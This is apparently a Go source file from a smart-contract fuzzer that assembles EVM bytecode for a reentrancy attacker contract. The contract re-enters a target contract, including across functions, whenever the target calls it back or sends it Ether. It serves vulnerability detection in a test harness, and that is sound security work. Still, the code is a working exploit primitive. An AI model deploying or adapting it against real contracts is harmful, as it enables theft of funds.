package vuln

import (
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	"github.com/solbehave/solbehave/internal/evmasm"
)

// Storage layout of the attacker (see attackerCode).
const (
	attackerLenSlot     = 0     // length of the stored payload
	attackerCounterSlot = 0x100 // re-entries left
	attackerMinGas      = 10000 // below this the attacker only accepts the ether
)

// attackerCode assembles the reentrancy attacker for target. It has two
// paths, chosen by who calls it:
//
//   - called by anyone but the target (the fuzzer's controller account):
//     its calldata is an envelope (see attackerEnvelope): a word F, F bytes
//     to forward, then the re-entry payload (when empty, the forwarded bytes
//     themselves). It stores the re-entry payload (length in slot 0, words
//     from slot 1), arms reentries re-entries, and forwards the F bytes and
//     the value to the target with all gas, reverting when that call fails;
//     so the target sees the attacker as msg.sender.
//   - called by the target (receiving Ether, or any callback): when armed
//     and given more than 2,300-stipend gas, it spends one re-entry and calls
//     the target again with the stored payload (the same function, or
//     another one: cross-function reentrancy), ignoring the outcome; then it
//     stops, accepting whatever it was sent.
//
// The target address is a constant in the code: the attacker is installed
// with SetCode after the target is deployed, so no constructor is needed.
func attackerCode(target common.Address, reentries int) []byte {
	a := evmasm.New()
	t := target.Bytes()
	a.PushBytes(t...).Op(vm.CALLER, vm.EQ).PushLabel("recv").Op(vm.JUMPI)

	// Controller path: [F, start, R] where the re-entry payload is the R
	// bytes of calldata from start.
	a.Push(0).Op(vm.CALLDATALOAD)                     // [F]
	a.Op(vm.DUP1).Push(32).Op(vm.ADD)                 // [F, start=F+32]
	a.Op(vm.DUP1, vm.CALLDATASIZE, vm.SUB)            // [F, start, R=size-start]
	a.Op(vm.DUP1).PushLabel("haveR").Op(vm.JUMPI)     // R = 0: re-enter with the forwarded bytes
	a.Op(vm.POP, vm.POP).Push(32).Op(vm.DUP2)         // [F, 32, F]
	a.Label("haveR")                                  // [F, start, R]
	a.Op(vm.DUP1).Push(attackerLenSlot).Op(vm.SSTORE) // remember R
	a.Push(uint64(reentries)).Push(attackerCounterSlot).Op(vm.SSTORE)
	a.Push(0)                                                                                // [F, start, R, i]
	a.Label("store").Op(vm.DUP2, vm.DUP2, vm.LT, vm.ISZERO).PushLabel("stored").Op(vm.JUMPI) // i >= R: done
	a.Op(vm.DUP1, vm.DUP4, vm.ADD, vm.CALLDATALOAD)                                          // [F, start, R, i, word]
	a.Op(vm.DUP2).Push(32).Op(vm.SWAP1, vm.DIV).Push(1).Op(vm.ADD)                           // [.., word, i/32+1]
	a.Op(vm.SSTORE).Push(32).Op(vm.ADD).PushLabel("store").Op(vm.JUMP)
	a.Label("stored").Op(vm.POP, vm.POP, vm.POP) // [F]
	a.Op(vm.DUP1).Push(32).Push(0).Op(vm.CALLDATACOPY)
	a.Push(0).Push(0).Op(vm.DUP3).Push(0).Op(vm.CALLVALUE).PushBytes(t...).Op(vm.GAS, vm.CALL)
	a.Op(vm.ISZERO).PushLabel("fail").Op(vm.JUMPI, vm.STOP)
	a.Label("fail").Push(0).Op(vm.DUP1, vm.REVERT)

	// Receiving path: re-enter once per armed count, with enough gas only.
	a.Label("recv")
	a.Op(vm.GAS).Push(attackerMinGas).Op(vm.GT).PushLabel("done").Op(vm.JUMPI) // 10000 > gas: just accept
	a.Push(attackerCounterSlot).Op(vm.SLOAD, vm.DUP1, vm.ISZERO).PushLabel("done").Op(vm.JUMPI)
	a.Push(1).Op(vm.SWAP1, vm.SUB).Push(attackerCounterSlot).Op(vm.SSTORE)
	a.Push(0)
	a.Label("load").Push(attackerLenSlot).Op(vm.SLOAD, vm.DUP2, vm.LT, vm.ISZERO).PushLabel("call").Op(vm.JUMPI)
	a.Op(vm.DUP1).Push(32).Op(vm.SWAP1, vm.DIV).Push(1).Op(vm.ADD, vm.SLOAD) // [i, word]
	a.Op(vm.DUP2, vm.MSTORE).Push(32).Op(vm.ADD).PushLabel("load").Op(vm.JUMP)
	a.Label("call").Op(vm.POP)
	a.Push(0).Push(0).Push(attackerLenSlot).Op(vm.SLOAD).Push(0).Push(0).PushBytes(t...).Op(vm.GAS, vm.CALL, vm.POP)
	a.Label("done").Op(vm.STOP)
	return a.MustAssemble()
}

// attackerEnvelope is the calldata the controller sends the attacker: the
// length of forward as a word, forward, then the re-entry payload (nil:
// re-enter with forward).
func attackerEnvelope(forward, reenter []byte) []byte {
	out := make([]byte, 32, 32+len(forward)+len(reenter))
	new(big.Int).SetInt64(int64(len(forward))).FillBytes(out)
	out = append(out, forward...)
	return append(out, reenter...)
}
